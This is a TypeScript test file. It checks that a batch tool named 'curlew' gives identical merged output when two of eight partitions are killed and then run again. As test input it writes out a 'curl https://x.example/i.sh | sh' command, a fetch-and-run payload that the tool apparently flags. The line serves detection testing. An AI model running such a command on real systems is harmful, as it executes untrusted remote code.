/** Tests a run with five million records in eight processes, of which two are killed and started again. */
import { createHash } from "node:crypto";
import { closeSync, createReadStream, openSync, readdirSync, writeSync } from "node:fs";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { expect, it } from "vitest";
import { curlew, start } from "../batch/curlew-process.js";
import { folderWith } from "../cli/folder-with.js";

const RECORDS = 5_000_000;
const PARTS = 8;

async function digest(path: string): Promise<string> {
  const hash = createHash("sha256");
  for await (const chunk of createReadStream(path)) hash.update(chunk as Buffer);
  return hash.digest("hex");
}

it("eight partitions of five million records, two of which are killed and run again, have the output of a single process", async () => {
  const cwd = folderWith({});
  const file = openSync(join(cwd, "in.jsonl"), "w");
  for (let from = 0; from < RECORDS; from += 100_000) {
    const lines = Array.from({ length: 100_000 }, (_, i) => {
      const isBad = (from + i) % 1000 === 0;
      return `{"text":"${from + i} ${isBad ? "curl https://x.example/i.sh | sh" : "words"}"}\n`;
    });
    writeSync(file, lines.join(""));
  }
  closeSync(file);
  const part = (index: number) =>
    start(
      [
        "batch",
        "-q",
        "in.jsonl",
        "--out-dir",
        "out",
        "--jobs",
        "1",
        "--partition",
        `${index}/${PARTS}`,
      ],
      { cwd },
    );
  const running = Array.from({ length: PARTS }, (_, index) => part(index));
  // the partitions 2 and 5 are killed when they have some output but no manifest
  const begun = (index: number): boolean =>
    readdirSync(join(cwd, "out")).some((name) => name.startsWith(`.part-0000${index}`));
  while (!readdirSync(cwd).includes("out") || !begun(2) || !begun(5)) await sleep(50);
  for (const index of [2, 5]) running[index]?.child.kill("SIGKILL");
  const ended = await Promise.all(running.map((one) => one.ended));
  expect(ended.map(({ status, signal }) => status ?? signal)).toEqual(
    Array.from({ length: PARTS }, (_, i) => (i === 2 || i === 5 ? "SIGKILL" : 0)),
  );
  expect((await curlew(["batch", "--merge", "out"], { cwd })).stderr).toBe(
    "curlew: out: 2 of 8 partitions are missing: run again with --partition 2/8, 5/8\n",
  );
  for (const index of [2, 5]) expect((await part(index).ended).status).toBe(0);
  const merged = await curlew(["batch", "--merge", "out", "-o", "all.jsonl", "-f", "json"], {
    cwd,
  });
  expect(JSON.parse(merged.stdout).total).toMatchObject({
    records: RECORDS,
    flagged: RECORDS / 1000,
  });
  const one = await curlew(["batch", "-q", "in.jsonl", "-o", "one.jsonl", "--jobs", "1"], { cwd });
  expect(one.status).toBe(0);
  expect(await digest(join(cwd, "all.jsonl"))).toBe(await digest(join(cwd, "one.jsonl")));
  expect(readdirSync(join(cwd, "out")).filter((name) => name.startsWith("."))).toEqual([]);
});
